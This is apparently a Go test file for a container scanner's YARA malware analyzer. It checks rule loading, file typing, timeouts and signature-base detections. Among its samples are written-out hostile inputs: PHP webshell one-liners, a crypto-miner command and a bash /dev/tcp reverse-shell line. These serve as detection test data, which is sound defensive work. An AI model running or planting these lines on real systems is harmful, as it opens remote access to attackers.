package yara_test

import (
	"bytes"
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/picket-cdr/picket/internal/analyzer"
	"github.com/picket-cdr/picket/internal/analyzer/analyzertest"
	"github.com/picket-cdr/picket/internal/analyzer/yara"
	"github.com/picket-cdr/picket/internal/finding"
	"github.com/picket-cdr/picket/internal/layer"
)

// shared returns a path under ../shared, skipping when it is absent.
func shared(t testing.TB, rel string) string {
	t.Helper()
	p := filepath.Join("..", "..", "..", "..", "shared", rel)
	if _, err := os.Stat(p); err != nil {
		t.Skipf("shared test data %s not available: %v", rel, err)
	}
	return p
}

func writeFile(t testing.TB, p, content string) string {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestRegistered(t *testing.T) {
	requireYARA(t)
	found := false
	for _, a := range analyzer.All() {
		found = found || a.Name() == yara.Name
	}
	if !found {
		t.Fatal("yara analyzer not registered")
	}
	a := yara.Default()
	if v := a.Version(); v == 0 || v != defaults(t).Version() {
		t.Fatalf("version %d, want the default configuration's %d", v, defaults(t).Version())
	}
	fs := scan(t, a, sample{path: "/tmp/eicar.com", content: eicar})
	if got := ruleIDs(fs); !slices.Equal(got, []string{"PKT-YARA-EICAR_Test_File"}) {
		t.Fatalf("registered analyzer: %v", got)
	}
}

func TestRequired(t *testing.T) {
	a := defaults(t)
	for _, c := range []struct {
		path string
		mode fs.FileMode
		size int64
		want bool
	}{
		{"/usr/bin/ls", 0o755, 100 << 10, true},
		{"/usr/lib/x86_64-linux-gnu/libc.so.6", 0o644, 2 << 20, true},
		{"/var/www/html/index.php", 0o644, 1000, true},
		{"/app/run.sh", 0o644, 1000, true},
		{"/tmp/anything", 0o644, 10, true},
		{"/dev/shm/.x", 0o644, 10, true},
		{"/root/.bashrc", 0o644, 10, true},
		{"/home/u/.config/autostart/x.desktop", 0o644, 10, true},
		{"/etc/ld.so.preload", 0o644, 10, true},
		{"/etc/cron.d/job", 0o644, 10, true},
		{"/opt/app/config.json", 0o644, 10, true},
		{"/srv/eicar.txt", 0o644, 68, true},
		{"/usr/share/doc/bash/README", 0o644, 1000, false},
		{"/usr/share/locale/de/LC_MESSAGES/x.mo", 0o644, 1000, false},
		{"/etc/passwd", 0o644, 1000, false},
		{"/usr/lib/python3/dist-packages/x/.git/objects/ab/cd", 0o644, 100, false},
		{"/usr/bin/empty", 0o755, 0, false},
		{"/usr/bin/huge", 0o755, yara.DefaultMaxFileSize + 1, false},
		{"/usr/bin/dir", fs.ModeDir | 0o755, 10, false},
		{"/usr/bin/link", fs.ModeSymlink | 0o777, 10, false},
	} {
		info := analyzertest.Info{Path: c.path, Length: c.size, FMode: c.mode}
		if got := a.Required(c.path, info); got != c.want {
			t.Errorf("Required(%s, %v, %d) = %v", c.path, c.mode, c.size, got)
		}
	}
}

func TestFileType(t *testing.T) {
	for _, c := range []struct{ name, head, want string }{
		{"ls", "\x7fELF\x02\x01", "ELF"},
		{"a.exe", "MZ\x90\x00", "EXE"},
		{"A.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34", "CLASS"},
		{"fat", "\xca\xfe\xba\xbe\x00\x00\x00\x02", "MACHO"},
		{"x.jar", "PK\x03\x04", "ZIP"},
		{"x.gz", "\x1f\x8b\x08", "GZIP"},
		{"x.zst", "\x28\xb5\x2f\xfd", "ZSTD"},
		{"run", "#!/usr/bin/env python3\nimport os", "PYTHON"},
		{"run", "#!/bin/sh\necho", "SHELL"},
		{"run", "#!/usr/bin/perl -w\n", "PERL"},
		{"run", "#!/usr/bin/awk -f\n", "SCRIPT"},
		{"i.php", "<html><?php echo 1; ?>", "PHP"},
		{"c.jsp", "<%@ page import=\"java.io.*\" %>", "JSP"},
		{"c.aspx", "<%@ Page Language=\"C#\" %>", "ASP"},
		{"a.xml", "<?xml version=\"1.0\"?>", "XML"},
		{"i.html", "<!DOCTYPE html><html>", "HTML"},
		{"README", "hello\nworld\n", "TEXT"},
		{"blob", "\x00\x01\x02\x03", "DATA"},
		{"empty", "", "DATA"},
	} {
		if got := yara.FileType(c.name, []byte(c.head)); got != c.want {
			t.Errorf("FileType(%q, %q) = %s, want %s", c.name, c.head, got, c.want)
		}
	}
}

// User rules see the externals LOKI and THOR define.
func TestUserRulesAndExternals(t *testing.T) {
	requireYARA(t)
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "ext.yar"), `
rule Ext_All {
	meta:
		description = "externals"
		score = 60
		author = "tester"
		reference = "https://example.org/a https://example.org/b"
	condition:
		filename == "shell.php" and filepath == "/var/www/html" and extension == ".php" and
		filetype == "PHP" and owner == "root"
}`)
	writeFile(t, filepath.Join(dir, "sub", "owner.yara"), `rule Ext_Owner : Tag1 { meta: severity = "low" condition: owner == "33" }`)
	writeFile(t, filepath.Join(dir, "notes.txt"), `this is not a rule file {`)
	a, err := yara.New(yara.Options{RuleDirs: []string{dir}, NoDefaultRules: true})
	if err != nil {
		t.Fatal(err)
	}
	if n, _ := a.RuleCount(); n != 2 {
		t.Fatalf("%d rules", n)
	}
	fs := scan(t, a, sample{path: "/var/www/html/shell.php", content: "<?php echo 1;"})
	if len(fs) != 1 || fs[0].RuleID != "PKT-YARA-Ext_All" || fs[0].Severity != finding.Medium ||
		fs[0].Attributes["author"] != "tester" || len(fs[0].References) != 2 || fs[0].Attributes["filetype"] != "PHP" {
		t.Fatalf("findings %+v", fs)
	}
	if !strings.Contains(fs[0].Attributes["ruleset"], "ext.yar") {
		t.Errorf("ruleset %q", fs[0].Attributes["ruleset"])
	}

	// owner comes from the tar entry's uid.
	in := analyzertest.Input("/var/www/html/x.php", []byte("<?php"), 0o644)
	in.Info = ownedInfo{in.Info, 33}
	res, err := a.Analyze(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	if got := ruleIDs(res.Findings); !slices.Equal(got, []string{"PKT-YARA-Ext_Owner"}) || res.Findings[0].Severity != finding.Low ||
		!slices.Contains(res.Findings[0].Tags, "tag1") {
		t.Fatalf("owner rule: %v %+v", got, res.Findings)
	}

	// The version follows the rules.
	b, err := yara.New(yara.Options{RuleDirs: []string{dir}})
	if err != nil {
		t.Fatal(err)
	}
	if a.Version() == b.Version() || b.Version() == defaults(t).Version() {
		t.Error("versions do not depend on the rules")
	}
}

// ownedInfo reports a layer entry with uid, as the scanner's walker does.
type ownedInfo struct {
	fs.FileInfo
	uid uint32
}

func (o ownedInfo) Sys() any { return &layer.Entry{Path: "/x", UID: o.uid} }

func TestInvalidRules(t *testing.T) {
	requireYARA(t)
	dir := t.TempDir()
	good := writeFile(t, filepath.Join(dir, "good.yar"), `rule Good { strings: $a = "needle" condition: $a }`)
	bad1 := writeFile(t, filepath.Join(dir, "bad1.yar"), "rule Bad1 {\n condition: nosuch }")
	bad2 := writeFile(t, filepath.Join(dir, "bad2.yar"), "rule Bad2 { strings: $a = \"x\" }")

	_, err := yara.New(yara.Options{RuleDirs: []string{dir}})
	if err == nil {
		t.Fatal("broken rules accepted")
	}
	for _, want := range []string{"bad1.yar:2", "nosuch", "bad2.yar"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q lacks %q", err, want)
		}
	}

	a, err := yara.New(yara.Options{RuleDirs: []string{dir}, SkipInvalid: true})
	if err != nil {
		t.Fatal(err)
	}
	w := strings.Join(a.Warnings(), "\n")
	if !strings.Contains(w, bad1) || !strings.Contains(w, bad2) || strings.Contains(w, "skipped "+good) {
		t.Errorf("warnings: %s", w)
	}
	if got := ruleIDs(scan(t, a, sample{path: "/tmp/x", content: "a needle"})); !slices.Equal(got, []string{"PKT-YARA-Good"}) {
		t.Errorf("got %v", got)
	}

	for _, opts := range []yara.Options{
		{RuleDirs: []string{filepath.Join(dir, "missing")}},
		{RuleFiles: []string{filepath.Join(dir, "missing.yar")}},
		{RuleDirs: []string{t.TempDir()}},
		{NoDefaultRules: true},
		{RuleFiles: []string{bad1, bad2}, SkipInvalid: true, NoDefaultRules: true},
	} {
		if _, err := yara.New(opts); err == nil {
			t.Errorf("New(%+v) succeeded", opts)
		}
	}
}

// Configure replaces the registered analyzer's rules; errors leave it as
// it was.
func TestConfigure(t *testing.T) {
	requireYARA(t)
	reg := yara.Default()
	v0 := reg.Version()
	if err := yara.Configure(yara.Options{RuleFiles: []string{"/nonexistent.yar"}}); err == nil {
		t.Fatal("bad configuration accepted")
	}
	if reg.Version() != v0 {
		t.Fatal("failed Configure changed the analyzer")
	}
	f := writeFile(t, filepath.Join(t.TempDir(), "x.yar"), `rule Configured { strings: $a = "configured" condition: $a }`)
	if err := yara.Configure(yara.Options{RuleFiles: []string{f}}); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := yara.Configure(yara.Options{}); err != nil {
			t.Fatal(err)
		}
		if reg.Version() != v0 {
			t.Error("default configuration has a new version")
		}
	}()
	if reg.Version() == v0 {
		t.Fatal("version unchanged")
	}
	got := ruleIDs(scan(t, reg, sample{path: "/tmp/x", content: "configured"}))
	if !slices.Equal(got, []string{"PKT-YARA-Configured"}) {
		t.Fatalf("got %v", got)
	}
}

// Neo23x0's signature-base compiles unchanged (its rules use the LOKI/THOR
// external variables) next to Picket's rules, and finds what it should.
func TestSignatureBase(t *testing.T) {
	requireYARA(t)
	dir := shared(t, "rules/yara-signature-base")
	start := time.Now()
	a, err := yara.New(yara.Options{RuleDirs: []string{dir}})
	if err != nil {
		t.Fatalf("signature-base does not compile: %v", err)
	}
	n, _ := a.RuleCount()
	t.Logf("signature-base + defaults: %d rules compiled in %v, %d warnings", n, time.Since(start).Round(time.Millisecond), len(a.Warnings()))
	for _, w := range a.Warnings() {
		t.Logf("warning: %s", w)
	}
	if n < 700 {
		t.Errorf("only %d rules", n)
	}
	// Each file compiles on its own too.
	files, _ := filepath.Glob(filepath.Join(dir, "*.yar"))
	for _, f := range files {
		if _, err := yara.New(yara.Options{RuleFiles: []string{f}, NoDefaultRules: true}); err != nil {
			t.Errorf("%s: %v", filepath.Base(f), err)
		}
	}

	chopper := scan(t, a, sample{path: "/var/www/html/x.php", content: `<?php @eval($_POST['password']);?>`})
	if ids := ruleIDs(chopper); !slices.Contains(ids, "PKT-YARA-ChinaChopper_Generic") || !slices.Contains(ids, "PKT-YARA-Webshell_China_Chopper") {
		t.Errorf("China Chopper: %v", ids)
	}
	for _, f := range chopper {
		if f.RuleID == "PKT-YARA-ChinaChopper_Generic" {
			if !strings.Contains(f.Attributes["author"], "Florian Roth") || !strings.Contains(f.Attributes["license"], "Detection Rule License") ||
				!strings.HasSuffix(f.Attributes["ruleset"], "apt_webshell_chinachopper.yar") || f.Severity != finding.High {
				t.Errorf("attribution: %+v", f)
			}
		}
	}
	miner := scan(t, a, sample{path: "/tmp/m.sh", content: "#!/bin/sh\n./x --donate-level 1 -o pool.example.net:5555\n"})
	if ids := ruleIDs(miner); !slices.Contains(ids, "PKT-YARA-SUSP_LNX_SH_CryptoMiner_Indicators_Dec20_1") {
		t.Errorf("miner script: %v", ids)
	}
	if ids := ruleIDs(scan(t, a, sample{path: "/tmp/eicar.com", content: eicar})); !slices.Equal(ids, []string{"PKT-YARA-EICAR_Test_File"}) {
		t.Errorf("EICAR: %v", ids)
	}
	// A clean shell script matches nothing.
	if ids := ruleIDs(scan(t, a, sample{path: "/usr/local/bin/entry", mode: 0o755, content: "#!/bin/sh\nexec \"$@\"\n"})); len(ids) > 0 {
		t.Errorf("clean script: %v", ids)
	}
}

// Hostile input: the timeout stops slow rules, huge files are not read,
// a cancelled context stops the wait for a scanner.
func TestBounds(t *testing.T) {
	requireYARA(t)
	if testing.Short() {
		t.Skip("takes seconds")
	}
	f := writeFile(t, filepath.Join(t.TempDir(), "slow.yar"),
		`rule Slow { condition: for all i in (1..filesize) : ( for all j in (1..filesize) : ( uint8(i) != 0x1ff ) ) }`)
	a, err := yara.New(yara.Options{RuleFiles: []string{f}, Timeout: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	_, err = a.Analyze(context.Background(), analyzertest.Input("/tmp/x", make([]byte, 1<<20), 0o644))
	if err == nil || !strings.Contains(err.Error(), "timed out") {
		t.Fatalf("err = %v", err)
	}
	if d := time.Since(start); d > 10*time.Second {
		t.Fatalf("took %v", d)
	}

	// Pathological input for the default rules' regular expressions is
	// stopped by the timeout too.
	start = time.Now()
	_, err = defaults(t).Analyze(context.Background(), analyzertest.Input("/tmp/x.sh", bytes.Repeat([]byte("socat "), 16<<20/6), 0o644))
	if d := time.Since(start); d > yara.DefaultTimeout+5*time.Second {
		t.Fatalf("pathological file took %v (err %v)", d, err)
	}

	small, err := yara.New(yara.Options{MaxFileSize: 1 << 10})
	if err != nil {
		t.Fatal(err)
	}
	big := bytes.Repeat([]byte{'A'}, 2<<10)
	copy(big, eicar)
	if small.Required("/tmp/x", analyzertest.Info{Path: "/tmp/x", Length: int64(len(big)), FMode: 0o644}) {
		t.Error("file above the limit required")
	}
	res, err := small.Analyze(context.Background(), analyzertest.Input("/tmp/x", big, 0o644))
	if err != nil || len(res.Findings) > 0 {
		t.Errorf("file above the limit analysed: %v %v", res, err)
	}
}

// Files spooled to disk are scanned through their descriptor.
func TestSpooledFile(t *testing.T) {
	a := defaults(t)
	p := filepath.Join(t.TempDir(), "spool")
	content := append([]byte("<?php system($_GET['cmd']); ?>"), bytes.Repeat([]byte("\n"), 2<<20)...)
	if err := os.WriteFile(p, content, 0o644); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	in := &analyzer.Input{Path: "/var/www/html/c.php", Info: analyzertest.Info{Path: "/var/www/html/c.php", Length: int64(len(content)), FMode: 0o644},
		Content: spooled{f, int64(len(content))}}
	res, err := a.Analyze(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	if got := ruleIDs(res.Findings); !slices.Equal(got, []string{"PKT-YARA-Webshell_PHP_Request_Exec"}) {
		t.Fatalf("got %v", got)
	}
}

type spooled struct {
	*os.File
	size int64
}

func (s spooled) Size() int64 { return s.size }

func TestUnavailableMessage(t *testing.T) {
	if yara.Available() {
		if yara.Unavailable() != nil {
			t.Fatal("available but Unavailable() != nil")
		}
		return
	}
	err := yara.Unavailable()
	if err == nil || !strings.Contains(err.Error(), "YARA analysis unavailable") {
		t.Fatalf("Unavailable() = %v", err)
	}
	if _, err := yara.New(yara.Options{}); err == nil {
		t.Fatal("New succeeded without libyara")
	}
	for _, a := range analyzer.All() {
		if a.Name() == yara.Name {
			t.Fatal("registered without libyara")
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	a := defaults(f)
	analyzertest.Fuzz(f, a, "/var/www/html/x.php",
		[]byte(eicar), []byte(`<?php @eval($_POST['x']);?>`), []byte(elf("xmrig", "donate-level")),
		[]byte("bash -i >& /dev/tcp/1.2.3.4/1 0>&1"), []byte{}, []byte("\x00\xff"))
}

func BenchmarkAnalyze(b *testing.B) {
	a := defaults(b)
	for _, c := range []struct {
		name string
		data []byte
	}{
		{"script-4KiB", bytes.Repeat([]byte("echo hello world; ls -l /tmp\n"), 140)},
		{"elf-8MiB", []byte(bigELF(strings.Repeat("lorem ipsum dolor sit amet ", 300000)))},
	} {
		b.Run(c.name, func(b *testing.B) {
			in := analyzertest.Input("/usr/bin/x", c.data, 0o755)
			b.SetBytes(int64(len(c.data)))
			for b.Loop() {
				in.Content.Seek(0, 0)
				if _, err := a.Analyze(context.Background(), in); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
